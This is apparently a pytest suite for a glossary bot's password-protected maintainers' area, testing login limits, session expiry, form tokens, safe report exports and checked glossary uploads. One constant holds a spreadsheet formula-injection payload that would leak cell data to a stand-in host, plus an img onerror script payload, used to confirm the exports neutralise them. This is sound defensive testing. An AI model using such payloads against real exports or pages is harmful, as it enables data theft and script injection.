"""The maintainers' area (issue 23): absent without a password hash; login refused, rate-limited,
expiring and ended by logout; the report (with its period, markdown and CSV) only behind it; the
glossary in service, and an upload that is checked before it is swapped in and then served by the
running app, a broken one refused with its report while the old glossary keeps serving."""

from __future__ import annotations

import re
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime
from pathlib import Path
from types import SimpleNamespace

import httpx
import pytest
import yaml
from argon2 import PasswordHasher
from pydantic import SecretStr, ValidationError

from bot.core import GlossaryBot
from bot.passwords import CHECK_THREADS, hash_password
from bot.records import AnswerRecord, Store
from bot.reload import GlossaryWatcher
from bot.settings import Settings
from glossary import GlossaryError
from tests.conftest import serving
from tests.factories import user_entry
from tests.test_cli import run_cli
from ui.admin import reports
from ui.admin.auth import AdminAuth, TooManyAttempts
from ui.admin.upload import BACKUP_DIR, BACKUPS_KEPT, GlossaryUploads

pytestmark = pytest.mark.model
PASSWORD = "a long maintainers password"
ATTEMPTS = 3
UPLOAD_MB = 0.05
TIMEOUT_S = 60
#: How long the test waits for an upload to be served (a bound, not a timing claim).
SERVED_DEADLINE_S = 60
#: How long a held password check waits for the test's release, and the bound on /healthz meanwhile
#: (bounds against a hang, not timing claims: the check is held until /healthz has answered).
HELD_S = 60
HEALTH_BOUND_S = 20
QUOKKA = user_entry("quokka-loss", term="Quokka loss", term_en="Quokka loss", term_hi="क्वोका लॉस")
WOMBAT = user_entry("wombat-rate", term="Wombat rate", term_en="Wombat rate", term_hi="वॉम्बैट रेट")
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"x") <img src=x onerror=alert(1)>'


def glossary_yaml(*entries: dict) -> bytes:
    document = {"document": "user.txt", "title_hi": "उपयोगकर्ता", "entries": list(entries)}
    return yaml.safe_dump(document, allow_unicode=True).encode()


@pytest.fixture(scope="module")
def area(settings, tmp_path_factory) -> Iterator[tuple[str, Path, Store, Path]]:
    """(url, the user glossary file, the store, the cache folder) of an app with the area on."""
    folder = tmp_path_factory.mktemp("admin")
    glossary = folder / "user.yaml"
    glossary.write_bytes(glossary_yaml(QUOKKA))
    cache = folder / "cache"
    config = settings.model_copy(
        update={
            "glossary_paths": [glossary],
            "cache_dir": cache,
            "reload_interval_s": 0,
            "admin_password_hash": SecretStr(hash_password(PASSWORD)),
            "admin_login_attempts": ATTEMPTS,
            "admin_upload_mb": UPLOAD_MB,
        }
    )
    bot = GlossaryBot.load(config)
    with serving(bot, config) as (url, served):
        store = Store.open(served.database)
        store.record_answer(AnswerRecord(HOSTILE, "en", "declined", (), 0.1, "v", "chat"))
        yield url, glossary, store, cache


@contextmanager
def _logged_in(url: str) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=url, timeout=TIMEOUT_S) as http:
        reply = http.post("/admin/login", data={"password": PASSWORD})
        assert reply.status_code == 303, reply.text
        yield http


def _form_token(page: str) -> str:
    found = re.search(r'name="form_token" value="([^"]+)"', page)
    assert found
    return found.group(1)


def test_the_area_is_absent_without_a_password_hash(bot, settings):
    with serving(bot, settings) as (url, _):
        for path in ("/admin", "/admin/report.csv"):
            assert httpx.get(url + path, timeout=TIMEOUT_S).status_code == 404
        assert httpx.post(f"{url}/admin/login", data={"password": "x"}, timeout=TIMEOUT_S).status_code == 404


def test_the_right_password_shows_the_report_and_logout_ends_the_session(area):
    url, _, _, _ = area
    assert "Log in" in httpx.get(f"{url}/admin", timeout=TIMEOUT_S).text
    with _logged_in(url) as http:
        page = http.get("/admin").text
        assert 'id="report-summary"' in page and "Glossary in service" in page
        assert "<img" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page  # shown as text
        cookie = http.cookies.get("glossary-bot-admin")
        http.post("/admin/logout", data={"form_token": _form_token(page)})
        assert 'id="report-summary"' not in http.get("/admin").text
        replay = httpx.get(f"{url}/admin/report.csv", cookies={"glossary-bot-admin": cookie or ""})
        assert replay.status_code == 401  # the old cookie is worth nothing


def test_downloads_are_inert(area):
    url, _, _, _ = area
    with _logged_in(url) as http:
        csv_text = http.get("/admin/report.csv").text
        markdown = http.get("/admin/report.md", params={"since": "2000-01-01"}).text
    assert "'=HYPERLINK" in csv_text and ",=HYPERLINK" not in csv_text and '"=HYPERLINK' not in csv_text
    assert "\\<img" in markdown and not re.search(r"(?<!\\)<img", markdown)  # escaped: text, not a tag


def test_a_form_without_its_token_is_refused(area):
    url, _, _, _ = area
    with _logged_in(url) as http:
        assert http.post("/admin/logout", data={"form_token": "guess"}).status_code == 403
        assert 'id="report-summary"' in http.get("/admin").text  # still logged in


def _served(url: str, question: str) -> str | None:
    reply = httpx.post(f"{url}/api/answer", json={"question": question}, timeout=TIMEOUT_S).json()
    return None if reply["abstained"] else reply["citations"][0]["entry_id"]


def _upload(http: httpx.Client, name: str, data: bytes) -> httpx.Response:
    token = _form_token(http.get("/admin").text)
    return http.post("/admin/glossary", data={"form_token": token}, files={"file": (name, data)})


def test_a_broken_upload_is_refused_with_its_report_and_the_old_glossary_keeps_serving(area):
    url, glossary, _, _ = area
    before = glossary.read_bytes()
    broken = glossary_yaml(QUOKKA, {**WOMBAT, "related": ["no-such-entry"]})
    with _logged_in(url) as http:
        reply = _upload(http, "user.yaml", broken)
        assert reply.status_code == 422 and "no-such-entry" in reply.text
        assert "no-such-entry" in http.get("/admin").text  # the last refused edit, with its report
        too_big = _upload(http, "user.yaml", b"#" * int(UPLOAD_MB * 1024 * 1024 + 1))
        assert too_big.status_code in (400, 413)
        far_too_big = _upload(http, "user.yaml", b"#" * int(UPLOAD_MB * 1024 * 1024 * 4))
        assert far_too_big.status_code == 413  # refused by its length, before it is read
        assert (
            _upload(http, "other.yaml", glossary_yaml(QUOKKA)).status_code == 400
        )  # not the glossary's name
    assert glossary.read_bytes() == before
    assert _served(url, "What is Quokka loss?") == "quokka-loss"


def test_a_good_upload_is_backed_up_swapped_in_and_served(area):
    url, glossary, _, cache = area
    before = glossary.read_bytes()
    assert _served(url, "What is Wombat rate?") is None
    with _logged_in(url) as http:
        reply = _upload(http, "user.yaml", glossary_yaml(QUOKKA, WOMBAT))
        assert reply.status_code == 200, reply.text
        deadline = time.monotonic() + SERVED_DEADLINE_S
        while _served(url, "What is Wombat rate?") is None and time.monotonic() < deadline:
            time.sleep(0.5)
        assert _served(url, "What is Wombat rate?") == "wombat-rate"
        assert 'id="entries">2<' in http.get("/admin").text
    backups = list((cache / BACKUP_DIR).iterdir())
    assert [b.read_bytes() for b in backups] == [before]


def test_login_attempts_are_limited_and_sessions_expire(monkeypatch):
    """Unit level (no server): wrong passwords are counted per address; a session ends when its
    time is up."""
    auth = AdminAuth(hash_password(PASSWORD), session_s=60, attempts_per_minute=ATTEMPTS)
    assert all(auth.login("wrong", "1.2.3.4") is None for _ in range(ATTEMPTS))
    with pytest.raises(TooManyAttempts):
        auth.login(PASSWORD, "1.2.3.4")  # even the right one, until the minute has passed
    session = auth.login(PASSWORD, "5.6.7.8")
    assert session is not None and auth.session(session.token) == session
    real = time.monotonic
    monkeypatch.setattr(time, "monotonic", lambda: real() + 61)
    assert auth.session(session.token) is None


def test_a_made_hash_takes_one_core_to_check():
    """argon2's default spreads a check over 4 threads, which took both cores of a small server."""
    assert hash_password(PASSWORD).startswith(f"$argon2id$v=19$m=65536,t=3,p={CHECK_THREADS}$")
    assert CHECK_THREADS == 1


def test_the_login_is_rate_limited_over_http(area):
    url, _, _, _ = area
    with httpx.Client(base_url=url, timeout=TIMEOUT_S) as http:
        codes = [http.post("/admin/login", data={"password": "wrong"}).status_code for _ in range(ATTEMPTS)]
        assert codes == [401] * ATTEMPTS
        assert http.post("/admin/login", data={"password": PASSWORD}).status_code == 429


def test_a_password_check_does_not_hold_up_other_visitors(area, monkeypatch):
    """A password check takes a fifth of a second of CPU; it ran on the event loop, so 4 wrong logins
    sent together held /healthz for 2 s. Here the check is held open until the test lets it go: if it
    ran on the loop, /healthz could not answer before the release, which comes only after it."""
    url, _, _, _ = area
    entered, release = threading.Event(), threading.Event()
    real = PasswordHasher.verify

    def held(self: PasswordHasher, hash: str, password: str) -> bool:
        entered.set()
        release.wait(HELD_S)
        return real(self, hash, password)

    monkeypatch.setattr(PasswordHasher, "verify", held)
    codes: list[int] = []

    def login() -> None:
        with httpx.Client(base_url=url, timeout=TIMEOUT_S) as http:
            forwarded = {"X-Forwarded-For": "10.2.0.1"}
            codes.append(http.post("/admin/login", data={"password": "wrong"}, headers=forwarded).status_code)

    thread = threading.Thread(target=login)
    thread.start()
    try:
        assert entered.wait(TIMEOUT_S)
        assert httpx.get(f"{url}/healthz", timeout=HEALTH_BOUND_S).status_code == 200
    finally:
        release.set()
        thread.join()
    assert codes == [401]


def test_reports_are_made_one_at_a_time_and_not_twice(monkeypatch):
    """The same period asked for while it is being made waits for that report; a bounded number of
    periods wait; nothing runs on the caller's thread."""
    started, release = threading.Event(), threading.Event()
    calls: list[tuple] = []

    def slow_build(store, bot, since, until, memo):
        calls.append((since, until, threading.current_thread().name))
        started.set()
        release.wait(10)
        return "report"

    monkeypatch.setattr(reports.maintainers, "build", slow_build)
    runner = reports.ReportRunner(None, None)  # type: ignore[arg-type]
    first = runner.submit((None, None))
    assert started.wait(10)
    assert runner.submit((None, None)) is first
    others = [runner.submit((datetime(2026, 1, n, tzinfo=UTC), None)) for n in range(1, reports.MAX_PENDING)]
    with pytest.raises(reports.ReportBusy):
        runner.submit((datetime(2026, 2, 1, tzinfo=UTC), None))
    release.set()
    assert first.result(10) == "report" and all(o.result(10) == "report" for o in others)
    assert len(calls) == reports.MAX_PENDING and {c[2] for c in calls} != {threading.current_thread().name}
    runner.close()


def test_admin_password_prints_a_hash_the_app_accepts_and_never_the_password(tmp_path):
    made = run_cli("admin-password", "--stdin", stdin=PASSWORD + "\n", cache_dir=tmp_path)
    assert made.returncode == 0 and PASSWORD not in made.stdout + made.stderr
    digest = made.stdout.strip()
    assert AdminAuth(digest, 60, 1).login(PASSWORD, "a") is not None
    assert Settings(admin_password_hash=digest).admin_password_hash is not None
    assert PASSWORD not in repr(Settings(admin_password_hash=digest))
    short = run_cli("admin-password", "--stdin", stdin="short\n", cache_dir=tmp_path)
    assert short.returncode == 2 and "12 characters" in short.stderr
    with pytest.raises(ValidationError, match="argon2"):
        Settings(admin_password_hash=PASSWORD)  # the password itself, by mistake


def test_an_edit_the_watcher_refuses_is_kept_with_its_report_for_the_area(tmp_path):
    """Before, a refused edit was visible only in the server log."""
    glossary = tmp_path / "user.yaml"
    glossary.write_bytes(glossary_yaml(QUOKKA))

    def reload() -> bool:
        raise GlossaryError(glossary, "entry 'wombat-rate': field 'related': unknown entry id 'nope'")

    fake = SimpleNamespace(settings=SimpleNamespace(glossary_paths=[glossary]), reload=reload)
    watcher = GlossaryWatcher(fake, 1)  # type: ignore[arg-type]
    glossary.write_bytes(glossary_yaml(QUOKKA, WOMBAT))
    assert watcher.poll() == "failed"
    assert "unknown entry id 'nope'" in (watcher.history.refused_report or "")
    assert watcher.history.last_refused is not None and watcher.history.last_reload is None


def test_only_the_newest_backups_are_kept(tmp_path):
    target = tmp_path / "user.yaml"
    uploads = GlossaryUploads(None, Settings(cache_dir=tmp_path / "cache"), None)  # type: ignore[arg-type]
    made = []
    for n in range(BACKUPS_KEPT + 3):
        target.write_text(f"version {n}")
        made.append(uploads._back_up(target))
    kept = sorted((tmp_path / "cache" / BACKUP_DIR).iterdir())
    assert kept == made[-BACKUPS_KEPT:] and kept[-1].read_text() == f"version {BACKUPS_KEPT + 2}"
